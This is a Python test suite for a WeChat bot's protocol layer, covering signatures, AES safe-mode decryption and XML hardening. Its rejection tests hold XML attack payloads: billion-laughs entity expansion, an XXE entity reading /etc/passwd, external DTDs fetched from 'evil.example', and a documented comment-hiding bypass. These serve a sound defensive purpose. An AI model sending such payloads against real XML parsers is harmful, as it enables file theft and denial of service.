"""WeChat protocol layer: signatures, safe-mode crypto, XML hardening."""

from __future__ import annotations

import base64
import random
import xml.etree.ElementTree as ET

import pytest

from bot.wechat_protocol import Incoming, ProtocolError, WeChatProtocol, message_xml

NOW = 1_700_000_000
AES_KEY = "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG"
APPID = "wx2c2769f8efd9abc2"

# Tencent's published WXBizMsgCrypt sample (Sample.py of the official SDK, also
# reproduced by many ports); ciphertext copied verbatim.
SAMPLE_TOKEN = "spamtest"
SAMPLE_NONCE = "1320562132"
SAMPLE_TIMESTAMP = "1409735669"
SAMPLE_MSG_SIGNATURE = "5d197aaffba7e9b25a30732f161a50dee96bd5fa"
SAMPLE_ENCRYPT = (
    "hyzAe4OzmOMbd6TvGdIOO6uBmdJoD0Fk53REIHvxYtJlE2B655HuD0m8KUePWB3+LrPXo87wzQ1QLvbeUgmBM4x6"
    "F8PGHQHFVAFmOD2LdJF9FrXpbUAh0B5GIItb52sn896wVsMSHGuPE328HnRGBcrS7C41IzDWyWNlZkyyXwon8T33"
    "2jisa+h6tEDYsVticbSnyU8dKOIbgU6ux5VTjg3yt+WGzjlpKn6NPhRjpA912xMezR4kw6KWwMrCVKSVCZciVGCg"
    "avjIQ6X8tCOp3yZbGpy0VxpAe+77TszTfRd5RJSVO/HTnifJpXgCSUdUue1v6h0EIBYYI1BD1DlD+C0CR8e6Oewp"
    "usjZ4uBl9FyJvnhvQl+q5rv1ixrcpCumEPo5MJSgM9ehVsNPfUM669WuMyVWQLCzpu9GhglF2PE="
)
SAMPLE_FROM_XML = f"""
    <xml>
        <ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName>
        <FromUserName><![CDATA[oyORnuP8q7ou2gfYjqLzSIWZf0rs]]></FromUserName>
        <CreateTime>1409735668</CreateTime>
        <MsgType><![CDATA[text]]></MsgType>
        <Content><![CDATA[abcdteT]]></Content>
        <MsgId>6054768590064713728</MsgId>
        <Encrypt><![CDATA[{SAMPLE_ENCRYPT}]]></Encrypt>
    </xml>
    """
SAMPLE_QUERY = {
    "timestamp": SAMPLE_TIMESTAMP,
    "nonce": SAMPLE_NONCE,
    "msg_signature": SAMPLE_MSG_SIGNATURE,
    "encrypt_type": "aes",
}


def sample_protocol(**kw) -> WeChatProtocol:
    kw.setdefault("clock", lambda: int(SAMPLE_TIMESTAMP))
    return WeChatProtocol(SAMPLE_TOKEN, kw.pop("appid", APPID), AES_KEY, **kw)


@pytest.fixture
def plain() -> WeChatProtocol:
    return WeChatProtocol("devtoken", clock=lambda: NOW)


@pytest.fixture
def safe() -> WeChatProtocol:
    """An account with an EncodingAESKey in 兼容模式 (both forms arrive); safe mode alone: below."""
    return WeChatProtocol("devtoken", APPID, AES_KEY, clock=lambda: NOW, compatible_mode=True)


def status_of(fn, *args, **kwargs) -> int:
    with pytest.raises(ProtocolError) as info:
        fn(*args, **kwargs)
    assert info.value.reason and len(info.value.reason) < 80
    return info.value.status


def text_xml(**kw) -> str:
    kw.setdefault("from_user", "oUser1")
    kw.setdefault("create_time", NOW)
    kw.setdefault("content", "你好")
    return message_xml(**kw)


# -- Tencent's sample vector ------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        SAMPLE_FROM_XML.encode(),  # exactly as printed in the SDK sample
        f"<xml><ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName>"
        f"<Encrypt><![CDATA[{SAMPLE_ENCRYPT}]]></Encrypt></xml>".encode(),  # safe-mode envelope
    ],
)
def test_tencent_sample_decrypts(body):
    msg, encrypted = sample_protocol().parse(SAMPLE_QUERY, body)
    assert encrypted is True
    assert msg == Incoming(
        to_user="gh_10f6c3c3ac5a",
        from_user="oyORnuP8q7ou2gfYjqLzSIWZf0rs",
        create_time=1409735668,
        msg_type="text",
        msg_id="6054768590064713728",
        content="abcdteT",
    )
    assert msg.dedup_id == "6054768590064713728"
    assert msg.order == (1409735668, 6054768590064713728)


def test_tencent_sample_signature_matches_our_sign():
    p = sample_protocol()
    assert p.sign(SAMPLE_TIMESTAMP, SAMPLE_NONCE, SAMPLE_ENCRYPT) == SAMPLE_MSG_SIGNATURE


def test_tencent_sample_without_appid_check_still_decrypts():
    msg, _ = sample_protocol(appid="").parse(SAMPLE_QUERY, SAMPLE_FROM_XML.encode())
    assert msg.content == "abcdteT"


def test_tencent_sample_rejections():
    body = SAMPLE_FROM_XML.encode()
    assert status_of(sample_protocol(appid="wx_other_app").parse, SAMPLE_QUERY, body) == 403
    assert status_of(sample_protocol(clock=lambda: NOW).parse, SAMPLE_QUERY, body) == 403
    wrong_token = WeChatProtocol("nottoken", APPID, AES_KEY, clock=lambda: int(SAMPLE_TIMESTAMP))
    assert status_of(wrong_token.parse, SAMPLE_QUERY, body) == 403
    assert status_of(sample_protocol().parse, {**SAMPLE_QUERY, "nonce": "1"}, body) == 403
    # Same ciphertext under another key: signature passes, decryption must fail cleanly.
    other_key = WeChatProtocol(SAMPLE_TOKEN, APPID, "B" * 43, clock=lambda: int(SAMPLE_TIMESTAMP))
    assert status_of(other_key.parse, SAMPLE_QUERY, body) in (400, 403)


# -- interoperability with wechatpy's implementation -------------------------------


def test_interop_with_wechatpy_prpcrypto(safe):
    from wechatpy.crypto import PrpCrypto, WeChatCrypto

    key = base64.b64decode(AES_KEY + "=")
    xml = text_xml(content="互通 ]]> test")
    # wechatpy encrypts (as WeChat would), we decrypt.
    encrypt = PrpCrypto(key).encrypt(xml, APPID).decode()
    query = {
        "timestamp": str(NOW),
        "nonce": "42",
        "encrypt_type": "aes",
        "msg_signature": safe.sign(str(NOW), "42", encrypt),
    }
    body = f"<xml><ToUserName><![CDATA[gh_test]]></ToUserName><Encrypt><![CDATA[{encrypt}]]></Encrypt></xml>"
    msg, encrypted = safe.parse(query, body.encode())
    assert encrypted and msg.content == "互通 ]]> test"
    # We encrypt a reply, wechatpy decrypts and verifies it.
    wp = WeChatCrypto("devtoken", AES_KEY, APPID)
    reply = ET.fromstring(safe.render_text(msg, "回复", True, nonce="7", timestamp=NOW))
    signature = reply.findtext("MsgSignature")
    plain_reply = wp.decrypt_message(
        {"Encrypt": reply.findtext("Encrypt")}, signature, reply.findtext("TimeStamp"), reply.findtext("Nonce")
    )
    assert ET.fromstring(plain_reply).findtext("Content") == "回复"
    # wechatpy's reply envelope is understood by decode_reply.
    wp_reply = wp.encrypt_message(plain_reply, "9", str(NOW))
    assert safe.decode_reply(wp_reply, encrypted=True)["Content"] == "回复"


# -- GET URL verification ----------------------------------------------------------


def get_query(p: WeChatProtocol, timestamp: int = NOW, nonce: str = "123") -> dict[str, str]:
    ts = str(timestamp)
    return {"signature": p.sign(ts, nonce), "timestamp": ts, "nonce": nonce, "echostr": "echo-42"}


def test_verify_url_ok(plain, safe):
    assert plain.verify_url(get_query(plain)) == "echo-42"
    assert safe.verify_url(get_query(safe)) == "echo-42"


def test_verify_url_bad_signature(plain):
    q = get_query(plain)
    assert status_of(plain.verify_url, {**q, "signature": "0" * 40}) == 403
    assert status_of(plain.verify_url, {**q, "signature": "签名"}) == 403
    assert status_of(plain.verify_url, {**q, "nonce": "124"}) == 403


@pytest.mark.parametrize("delta", [-301, 301, -(10**6)])
def test_verify_url_stale(plain, delta):
    assert status_of(plain.verify_url, get_query(plain, timestamp=NOW + delta)) == 403


def test_verify_url_skew_edge_ok(plain):
    assert plain.verify_url(get_query(plain, timestamp=NOW - 300)) == "echo-42"


@pytest.mark.parametrize("missing", ["signature", "timestamp", "nonce", "echostr"])
def test_verify_url_missing_params(plain, missing):
    q = get_query(plain)
    del q[missing]
    assert status_of(plain.verify_url, q) == 400
    assert status_of(plain.verify_url, {**get_query(plain), missing: ""}) == 400


@pytest.mark.parametrize("ts", ["abc", "1.5", "-5", " 170", "1_700", "１７００", "9" * 5000])
def test_verify_url_non_integer_timestamp(plain, ts):
    q = {**get_query(plain), "timestamp": ts}
    assert status_of(plain.verify_url, q) == 400


# -- round trips -------------------------------------------------------------------

MESSAGES = {
    "text": dict(content="我要办残疾证"),
    "voice": dict(msg_type="voice", media_id="m1", recognition="我要办残疾证。"),
    "voice_no_recognition": dict(msg_type="voice", media_id="m2"),
    "voice_empty_recognition": dict(msg_type="voice", media_id="m3", recognition=""),
    "image": dict(msg_type="image", media_id="m4", pic_url="http://mmbiz.qpic.cn/x"),
    "subscribe": dict(msg_type="event", event="subscribe", event_key=""),
    "subscribe_qr": dict(msg_type="event", event="subscribe", event_key="qrscene_123"),
    "unsubscribe": dict(msg_type="event", event="unsubscribe"),
    "click": dict(msg_type="event", event="CLICK", event_key="MENU_Apply"),
}


@pytest.mark.parametrize("encrypted", [False, True], ids=["plain", "safe"])
@pytest.mark.parametrize("kind", list(MESSAGES))
def test_round_trip(safe, plain, kind, encrypted):
    p = safe if encrypted else plain
    spec = MESSAGES[kind]
    msg_id = None if spec.get("msg_type") == "event" else 777
    xml = message_xml(from_user="oUser1", to_user="gh_acct", create_time=NOW - 1, msg_id=msg_id, **spec)
    query, body = p.build_request(xml, encrypted=encrypted, nonce="555")
    assert query["openid"] == "oUser1"
    assert ("msg_signature" in query) is encrypted
    if encrypted:
        assert b"oUser1" not in body and query["encrypt_type"] == "aes"
    msg, was_encrypted = p.parse(query, body)
    assert was_encrypted is encrypted
    assert (msg.to_user, msg.from_user, msg.create_time) == ("gh_acct", "oUser1", NOW - 1)
    assert msg.msg_type == spec.get("msg_type", "text")
    if msg.msg_type == "event":
        assert msg.msg_id is None
        assert msg.event == spec["event"].lower()
        assert msg.event_key == spec.get("event_key")
        assert msg.dedup_id == f"ev:{NOW - 1}:{msg.event}:{spec.get('event_key') or ''}"
        assert msg.order == (NOW - 1, 0)
    else:
        assert msg.msg_id == "777" and msg.dedup_id == "777" and msg.order == (NOW - 1, 777)
    assert msg.content == spec.get("content")
    assert msg.recognition == spec.get("recognition")
    assert msg.media_id == spec.get("media_id")
    assert msg.pic_url == spec.get("pic_url")

    reply = p.render_text(msg, "您好，请问要办理哪一项？", encrypted, timestamp=NOW)
    fields = p.decode_reply(reply, encrypted=encrypted)
    assert fields == {
        "ToUserName": "oUser1",
        "FromUserName": "gh_acct",
        "CreateTime": str(NOW),
        "MsgType": "text",
        "Content": "您好，请问要办理哪一项？",
    }
    if encrypted:
        env = ET.fromstring(reply)
        assert [c.tag for c in env] == ["Encrypt", "MsgSignature", "TimeStamp", "Nonce"]
        assert env.findtext("TimeStamp") == str(NOW)


def test_voice_xml_shape():
    root = ET.fromstring(message_xml(from_user="u", msg_type="voice", recognition="好"))
    assert root.findtext("Format") == "amr" and root.findtext("Recognition") == "好"
    assert root.findtext("MediaId") and root.findtext("MsgId")
    event = ET.fromstring(message_xml(from_user="u", msg_type="event", event="subscribe"))
    assert event.find("MsgId") is None and event.findtext("Event") == "subscribe"


def test_message_xml_default_ids_are_unique_and_ordered(plain):
    msgs = []
    for _ in range(3):
        q, b = plain.build_request(text_xml(), encrypted=False)
        msgs.append(plain.parse(q, b)[0])
    assert len({m.dedup_id for m in msgs}) == 3
    assert [m.order for m in msgs] == sorted(m.order for m in msgs)


def test_compatible_mode_accepts_plain_message(safe):
    query, body = safe.build_request(text_xml(), encrypted=False)
    msg, encrypted = safe.parse(query, body)
    assert encrypted is False and msg.content == "你好"
    assert safe.decode_reply(safe.render_text(msg, "ok", False), encrypted=False)["Content"] == "ok"


def test_encrypt_type_raw_is_plain(plain):
    query, body = plain.build_request(text_xml(), encrypted=False)
    assert plain.parse({**query, "encrypt_type": "raw"}, body)[1] is False


def test_render_uses_clock_and_random_nonce(safe):
    msg = Incoming("gh", "oU", NOW, "text", content="x")
    a, b = safe.render_text(msg, "hi", True), safe.render_text(msg, "hi", True)
    assert ET.fromstring(a).findtext("Nonce") != ET.fromstring(b).findtext("Nonce")
    assert safe.decode_reply(a, encrypted=True)["CreateTime"] == str(NOW)


@pytest.mark.parametrize("body", ["", "success", b"success", b"  "])
def test_decode_reply_empty(plain, body):
    assert plain.decode_reply(body, encrypted=False) == {}
    assert plain.decode_reply(body, encrypted=True) == {}


def test_decode_reply_detects_tampering(safe):
    msg = Incoming("gh", "oU", NOW, "text")
    reply = safe.render_text(msg, "hi", True, nonce="1", timestamp=NOW)
    assert status_of(safe.decode_reply, reply.replace("<Nonce><![CDATA[1]]>", "<Nonce><![CDATA[2]]>"), encrypted=True) == 403


# -- reply escaping ----------------------------------------------------------------


@pytest.mark.parametrize("encrypted", [False, True], ids=["plain", "safe"])
def test_reply_cdata_terminator_and_control_chars(safe, encrypted):
    msg = Incoming("gh]]>acct", "oU]]>ser", NOW, "text")
    text = "a]]>b]]]]>c\x00\x01\x08\x0b\x0c\x1f\ud800\ufffe\uffff ok\t\n\r end <b>&amp;</b>"
    reply = safe.render_text(msg, text, encrypted, timestamp=NOW)
    ET.fromstring(reply)  # well-formed
    fields = safe.decode_reply(reply.encode(), encrypted=encrypted)
    # XML parsers normalise a lone CR to LF (XML 1.0 section 2.11), WeChat's included.
    assert fields["Content"] == "a]]>b]]]]>c ok\t\n\n end <b>&amp;</b>"
    assert (fields["ToUserName"], fields["FromUserName"]) == ("oU]]>ser", "gh]]>acct")


def test_user_text_mentioning_doctype_is_not_refused(plain):
    query, body = plain.build_request(text_xml(content='<!DOCTYPE html><!ENTITY x "y"> ]]> &x;'), encrypted=False)
    assert plain.parse(query, body)[0].content == '<!DOCTYPE html><!ENTITY x "y"> ]]> &x;'


# -- rejections --------------------------------------------------------------------


def signed(p: WeChatProtocol, **extra) -> dict[str, str]:
    return {"signature": p.sign(str(NOW), "1"), "timestamp": str(NOW), "nonce": "1", **extra}


def test_bad_signatures(plain, safe):
    query, body = plain.build_request(text_xml(), encrypted=False)
    assert status_of(plain.parse, {**query, "signature": "f" * 40}, body) == 403
    assert status_of(plain.parse, {**query, "signature": "Ω" * 40}, body) == 403
    assert status_of(WeChatProtocol("other", clock=lambda: NOW).parse, query, body) == 403
    query, body = safe.build_request(text_xml(), encrypted=True)
    assert status_of(safe.parse, {**query, "msg_signature": query["signature"]}, body) == 403
    tampered = body.replace(b"<Encrypt><![CDATA[", b"<Encrypt><![CDATA[AAAA")
    assert status_of(safe.parse, query, tampered) == 403


@pytest.mark.parametrize("encrypted", [False, True], ids=["plain", "safe"])
@pytest.mark.parametrize("delta", [-301, 400, -86400])
def test_stale_timestamp(safe, encrypted, delta):
    query, body = safe.build_request(text_xml(), encrypted=encrypted, timestamp=NOW + delta)
    assert status_of(safe.parse, query, body) == 403


@pytest.mark.parametrize("missing", ["timestamp", "nonce", "signature"])
def test_missing_query_params_plain(plain, missing):
    query, body = plain.build_request(text_xml(), encrypted=False)
    del query[missing]
    assert status_of(plain.parse, query, body) == 400


def test_missing_msg_signature(safe):
    query, body = safe.build_request(text_xml(), encrypted=True)
    del query["msg_signature"]
    assert status_of(safe.parse, query, body) == 400


def test_non_integer_timestamp_post(plain):
    query, body = plain.build_request(text_xml(), encrypted=False)
    assert status_of(plain.parse, {**query, "timestamp": "soon"}, body) == 400


def test_encrypted_without_key(plain, safe):
    query, body = safe.build_request(text_xml(), encrypted=True)
    assert status_of(plain.parse, query, body) == 400


def test_unknown_encrypt_type(plain):
    query, body = plain.build_request(text_xml(), encrypted=False)
    assert status_of(plain.parse, {**query, "encrypt_type": "des"}, body) == 400


def test_body_size(plain):
    small = WeChatProtocol("devtoken", max_body_bytes=200, clock=lambda: NOW)
    query, body = small.build_request(text_xml(content="x" * 300), encrypted=False)
    assert status_of(small.parse, query, body) == 413
    assert status_of(plain.parse, query, b"x" * 65537) == 413
    assert status_of(plain.parse, query, b"") == 400


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    + "]><xml><ToUserName>gh</ToUserName><FromUserName>u</FromUserName><CreateTime>1</CreateTime>"
    "<MsgType>text</MsgType><Content>&lol9;</Content></xml>"
)
XXE = (
    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    "<xml><ToUserName>gh</ToUserName><FromUserName>u</FromUserName><CreateTime>1</CreateTime>"
    "<MsgType>text</MsgType><Content>&xxe;</Content></xml>"
)
DTD_PAYLOADS = {
    "billion_laughs": BILLION_LAUGHS,
    "xxe_file": XXE,
    "xxe_parameter": '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><xml/>',
    "plain_doctype": "<!DOCTYPE xml><xml><ToUserName>a</ToUserName></xml>",
    "lowercase_doctype": "<!doctype xml><xml/>",
    "after_comment_with_fake_root": '<!-- <xml --><!DOCTYPE xml [<!ENTITY a "b">]><xml>&a;</xml>',
    "after_pi_and_ws": '<?xml version="1.0"?>\n<?pi x?>\n  <!DOCTYPE xml SYSTEM "http://evil/x"><xml/>',
    "bom": '\ufeff<!DOCTYPE xml [<!ENTITY a "b">]><xml/>',
    "entity_only": '<!ENTITY a "b"><xml/>',
    # The bypass a red team found: "<xml" inside a comment before the DTD, and a message with every field,
    # whose Content expands to 200 × 1,000 characters (and "&e;" alone would say 重新开始).
    "comment_holding_root_then_dtd": '<!--<xml--><!DOCTYPE xml [<!ENTITY e "' + "重新开始" * 250 + '">]><xml>'
    "<ToUserName>gh</ToUserName><FromUserName>u</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType>"
    "<MsgId>1</MsgId><Content>" + "&e;" * 200 + "</Content></xml>",
    # A CDATA opener inside a comment must not hide what follows from the check.
    "cdata_opener_in_comment": '<!-- <![CDATA[ --><!DOCTYPE xml [<!ENTITY a "b">]><!-- ]]> --><xml>'
    "<ToUserName>gh</ToUserName><FromUserName>u</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType>"
    "<MsgId>1</MsgId><Content>&a;</Content></xml>",
}


@pytest.mark.parametrize("name", list(DTD_PAYLOADS))
def test_dtd_refused_plain(plain, name):
    assert status_of(plain.parse, signed(plain), DTD_PAYLOADS[name].encode()) == 400


@pytest.mark.parametrize("name", list(DTD_PAYLOADS))
def test_dtd_refused_inside_ciphertext(safe, name):
    query, body = safe.build_request(DTD_PAYLOADS[name], encrypted=True)
    assert status_of(safe.parse, query, body) == 400


def test_dtd_refused_in_envelope(safe):
    query, body = safe.build_request(text_xml(), encrypted=True)
    evil = b'<!DOCTYPE xml [<!ENTITY a "b">]>' + body
    assert status_of(safe.parse, query, evil) == 400


def test_doctype_in_utf16_body_refused(plain):
    assert status_of(plain.parse, signed(plain), XXE.replace('1.0"', '1.0" encoding="UTF-16"').encode("utf-16")) == 400


FIELDS = "<ToUserName>gh</ToUserName><FromUserName>u</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType>"
BAD_BODIES = {
    "malformed": f"<xml>{FIELDS}<Content>x</xml>",
    "truncated": f"<xml>{FIELDS}",
    "not_xml": "hello",
    "wrong_root": f"<root>{FIELDS}</root>",
    "namespaced_root": f'<xml xmlns="urn:x">{FIELDS}</xml>',
    "two_roots": f"<xml>{FIELDS}</xml><xml/>",
    "undefined_entity": f"<xml>{FIELDS}<Content>&nope;</Content></xml>",
    "nul_char": f"<xml>{FIELDS}<Content>a\x00b</Content></xml>",
    "nested_from_user": "<xml><ToUserName>gh</ToUserName><FromUserName><a>u</a></FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType></xml>",
    "nested_content": f"<xml>{FIELDS}<Content><x>1</x></Content></xml>",
    "duplicate_from_user": f"<xml>{FIELDS}<FromUserName>v</FromUserName></xml>",
    "empty_from_user": "<xml><ToUserName>gh</ToUserName><FromUserName></FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType></xml>",
    "bad_create_time": "<xml><ToUserName>gh</ToUserName><FromUserName>u</FromUserName><CreateTime>yesterday</CreateTime><MsgType>text</MsgType></xml>",
    "huge_create_time": f"<xml><ToUserName>gh</ToUserName><FromUserName>u</FromUserName><CreateTime>{'9' * 5000}</CreateTime><MsgType>text</MsgType></xml>",
    "deep_nesting": "<xml>" + "<a>" * 5000 + "</a>" * 5000 + "</xml>",
}
for _field in ("ToUserName", "FromUserName", "CreateTime", "MsgType"):
    BAD_BODIES[f"missing_{_field}"] = (
        "<xml>" + "".join(part + ">" for part in FIELDS.split(">")[:-1] if _field not in part) + "</xml>"
    )


@pytest.mark.parametrize("name", list(BAD_BODIES))
@pytest.mark.parametrize("encrypted", [False, True], ids=["plain", "safe"])
def test_bad_xml(safe, name, encrypted):
    if encrypted:
        query, body = safe.build_request(BAD_BODIES[name], encrypted=True)
    else:
        query, body = signed(safe), BAD_BODIES[name].encode()
    assert status_of(safe.parse, query, body) == 400


def test_unknown_nested_and_repeated_fields_are_ignored(plain):
    # e.g. scancode_push carries a nested <ScanCodeInfo>; we must not refuse it.
    xml = (
        "<xml><ToUserName>gh</ToUserName><FromUserName>u</FromUserName><CreateTime>5</CreateTime>"
        "<MsgType>EVENT</MsgType><Event>scancode_push</Event><EventKey>k</EventKey>"
        "<ScanCodeInfo><ScanType>qrcode</ScanType><ScanResult>1</ScanResult></ScanCodeInfo>"
        "<Extra>1</Extra><Extra>2</Extra></xml>"
    )
    msg, _ = plain.parse(signed(plain), xml.encode())
    assert (msg.msg_type, msg.event, msg.event_key) == ("event", "scancode_push", "k")


def test_missing_field_builder_really_drops_the_field():
    assert "<CreateTime>" not in BAD_BODIES["missing_CreateTime"]
    assert BAD_BODIES["missing_MsgType"].count("<") == 8


@pytest.mark.parametrize(
    "body",
    [b"\xff\xfe<\x00x\x00", "<xml><Content>é</Content></xml>".encode("latin-1"), b"<xml>\xc3\x28</xml>", b"\xed\xa0\x80"],
)
def test_non_utf8(plain, body):
    assert status_of(plain.parse, signed(plain), body) == 400


def test_envelope_problems(safe):
    query = signed(safe, encrypt_type="aes", msg_signature="x")
    assert status_of(safe.parse, query, b"<xml><ToUserName>gh</ToUserName></xml>") == 400
    assert status_of(safe.parse, query, b"<xml><Encrypt><a/></Encrypt></xml>") == 400


def crafted(p: WeChatProtocol, encrypt: str) -> tuple[dict[str, str], bytes]:
    query = signed(p, encrypt_type="aes", msg_signature=p.sign(str(NOW), "1", encrypt))
    return query, f"<xml><Encrypt><![CDATA[{encrypt}]]></Encrypt></xml>".encode()


def raw_encrypt(payload: bytes) -> str:
    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

    key = base64.b64decode(AES_KEY + "=")
    enc = Cipher(algorithms.AES(key), modes.CBC(key[:16])).encryptor()
    return base64.b64encode(enc.update(payload) + enc.finalize()).decode()


@pytest.mark.parametrize(
    "encrypt",
    [
        "not base64!!",
        "QUJD",  # valid base64, 3 bytes
        "中文",
        base64.b64encode(b"x" * 31).decode(),
        raw_encrypt(b"\x00" * 32),  # padding byte 0
        raw_encrypt(b"\x00" * 31 + b"\x21"),  # padding 33
        raw_encrypt(b"\x00" * 30 + b"\x01\x02"),  # inconsistent padding
        raw_encrypt(b"r" * 16 + b"\xff\xff\xff\xff" + b"<xml/>" + b"\x06" * 6),  # length overflow
        raw_encrypt(b"r" * 16 + b"\x10" * 16),  # nothing after the random prefix
    ],
)
def test_decrypt_failures_are_400(safe, encrypt):
    assert status_of(safe.parse, *crafted(safe, encrypt)) == 400


def test_appid_mismatch(safe):
    other = WeChatProtocol("devtoken", "wx_someone_else", AES_KEY, clock=lambda: NOW)
    query, body = other.build_request(text_xml(), encrypted=True)
    assert status_of(safe.parse, query, body) == 403


def test_bad_aes_key_config():
    for key in ("short", "!" * 43, AES_KEY + "A"):
        with pytest.raises(ValueError):
            WeChatProtocol("t", APPID, key)
    with pytest.raises(ValueError):
        WeChatProtocol("")


# -- robustness: nothing but ProtocolError escapes parse() ----------------------------

SNIPPETS = [
    b"<",
    b">",
    b"]]>",
    b"<![CDATA[",
    b"<!DOCTYPE",
    b"<!ENTITY",
    b"&",
    b"&#0;",
    b"&#x10FFFF;",
    b"\x00",
    b"\xff",
    b"\xc3",
    b"<xml>",
    b"</xml>",
    b"<a>",
    b"</Content>",
    b"<?",
    b"?>",
    b"<!--",
    b"-->",
    b"%",
    b"\xef\xbb\xbf",
]


def mutate(rng: random.Random, data: bytes) -> bytes:
    data = bytearray(data)
    for _ in range(rng.randint(1, 4)):
        op = rng.randrange(5)
        pos = rng.randint(0, len(data))
        if op == 0 and data:
            data[min(pos, len(data) - 1)] = rng.randrange(256)
        elif op == 1:
            data[pos:pos] = rng.choice(SNIPPETS)
        elif op == 2:
            del data[pos : pos + rng.randint(1, 20)]
        elif op == 3:
            data = data[:pos]
        else:
            data[pos:pos] = rng.randbytes(rng.randint(1, 8))
    return bytes(data)


def test_fuzz_parse_only_raises_protocol_error(safe):
    rng = random.Random(20240601)
    seeds = (
        [text_xml(content=c) for c in ("hi", "a]]>b", "中文")]
        + [message_xml(from_user="u", create_time=NOW, **spec) for spec in MESSAGES.values()]
        + list(DTD_PAYLOADS.values())
        + list(BAD_BODIES.values())
    )
    outcomes = {"ok": 0, "error": 0}
    for i in range(2000):
        seed = rng.choice(seeds).encode()
        mode = i % 4
        if mode == 0:  # mutated plain body, valid query
            query, body = signed(safe), mutate(rng, seed)
        elif mode == 1:  # mutated plaintext inside a valid ciphertext
            plaintext = mutate(rng, seed).decode("utf-8", "surrogateescape")
            query, body = safe.build_request(plaintext.encode("utf-8", "replace").decode(), encrypted=True)
        elif mode == 2:  # mutated envelope / ciphertext
            query, body = safe.build_request(seed.decode(), encrypted=True)
            body = mutate(rng, body)
        else:  # random bytes and a randomly damaged query
            query, body = safe.build_request(seed.decode(), encrypted=rng.random() < 0.5)
            for key in rng.sample(sorted(query), rng.randint(0, 2)):
                query[key] = rng.choice(["", "\udcff", "9" * 30, "x", query[key][::-1], "aes"])
            body = rng.randbytes(rng.randint(0, 300)) if rng.random() < 0.5 else body
        try:
            msg, _ = safe.parse(query, body)
        except ProtocolError as exc:
            assert exc.status in (400, 403, 413) and isinstance(exc.reason, str)
            outcomes["error"] += 1
        else:
            assert isinstance(msg, Incoming) and msg.from_user and msg.to_user
            msg.dedup_id, msg.order  # noqa: B018 - must not raise either
            safe.render_text(msg, msg.content or "", True)
            outcomes["ok"] += 1
    assert outcomes["ok"] > 20 and outcomes["error"] > 500


def test_a_decoded_field_is_capped_whatever_the_body_limit():
    roomy = WeChatProtocol("devtoken", clock=lambda: NOW, max_body_bytes=1 << 20)
    query, body = roomy.build_request(text_xml(content="x" * 70_000), encrypted=False)
    assert status_of(roomy.parse, query, body) == 413
    query, body = roomy.build_request(text_xml(content="x" * 40_000), encrypted=False)
    assert roomy.parse(query, body)[0].content == "x" * 40_000


def test_safe_mode_refuses_plaintext_and_a_query_naming_another_sender():
    """A captured plain-mode query string must not act as anyone: with an EncodingAESKey and no 兼容模式
    only encrypted messages are taken, and the query's openid must be the message's sender."""
    safe_only = WeChatProtocol("devtoken", APPID, AES_KEY, clock=lambda: NOW)
    query, body = safe_only.build_request(text_xml(), encrypted=False)
    assert status_of(safe_only.parse, query, body) == 403
    query, body = safe_only.build_request(text_xml(from_user="oVictim"), encrypted=True)
    assert safe_only.parse({**query, "openid": "oVictim"}, body)[0].from_user == "oVictim"
    assert status_of(safe_only.parse, {**query, "openid": "oAttacker"}, body) == 403
